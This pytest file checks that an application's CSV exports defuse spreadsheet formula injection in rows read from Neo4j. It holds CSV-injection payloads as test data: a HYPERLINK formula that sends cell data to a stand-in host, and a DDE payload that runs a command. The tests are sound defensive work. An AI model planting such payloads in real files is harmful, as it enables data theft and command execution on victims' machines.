"""CSV exports never hand a spreadsheet a formula: every CSV writer of rows (the API's and the
UI's export, the CLI's `--format csv`) defuses a cell opening with = + - @, a tab or a line
break, whether the value was text, a list joined by `;` (each item may become a cell where a
spreadsheet splits on `;`) or anything else."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from neo4j import Driver

from app.cli.tables import Format, render
from app.services.library import to_csv
from graph.registry import load
from graph.runner import FORMULA_STARTS, cell, run

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def cells(text: str, delimiter: str) -> list[str]:
    return [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
    ]


def formulas(text: str) -> list[str]:
    """The cells of `text` a spreadsheet would run, split on `,` or on `;`."""
    return [c for d in (",", ";") for c in cells(text, d) if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_dangerous_value_is_defused_alone_and_in_a_list(value: str) -> None:
    for shape in (value, [value], ["safe", value], [value, 3], {"k": value}):
        text = cell(shape, spreadsheet_safe=True)
        assert not text.startswith(FORMULA_STARTS), (shape, text)
        assert not [p for p in text.split(";") if p.startswith(FORMULA_STARTS)], (shape, text)
    defused = cell(value, spreadsheet_safe=True)
    assert defused.startswith("'") and defused.replace("'", "") == value  # only quotes added


def test_plain_values_are_left_as_they_are() -> None:
    assert cell(["a", "b"], spreadsheet_safe=True) == "a;b"
    assert cell(3, spreadsheet_safe=True) == "3"
    assert cell("Ann=1", spreadsheet_safe=True) == "Ann=1"
    assert cell("=1+1") == "=1+1"  # a terminal table is no spreadsheet
    assert cell("Seen at\nthe door", spreadsheet_safe=True) == "Seen at\nthe door"


def test_every_csv_writer_defuses_rows_read_from_neo4j(db: Driver, tmp_path: Path) -> None:
    db.execute_query(
        "CREATE (:Person {person_key: 'CSV:P1', surname: $s, aliases: $a, pnc_id: $t})",
        s=DANGEROUS[0],
        a=DANGEROUS[1:],
        t="\t=cmd|' /C calc'!A0",
    )
    (tmp_path / "cells.cypher").write_text(
        "// name: cells\n// title: Cells\n// description: Dangerous cells.\n// audience: test\n"
        "// mode: read\n// scope: population\n// returns: one row per person\n"
        "MATCH (p:Person {person_key: 'CSV:P1'})\n"
        "RETURN p.surname AS surname, p.aliases AS aliases, p.pnc_id AS pnc,\n"
        "       [p.surname, p.pnc_id] AS pair, {name: p.surname} AS map\n"
    )
    result = run("cells", library=load([tmp_path]))
    assert result.rows[0]["surname"] == DANGEROUS[0]
    for text in (
        to_csv(result.columns, result.rows),  # the API's and the UI's export
        render(result.columns, result.rows, Format.csv),  # the CLI's
    ):
        assert formulas(text) == [], text
        assert "'" + DANGEROUS[0] in cells(text, ",")
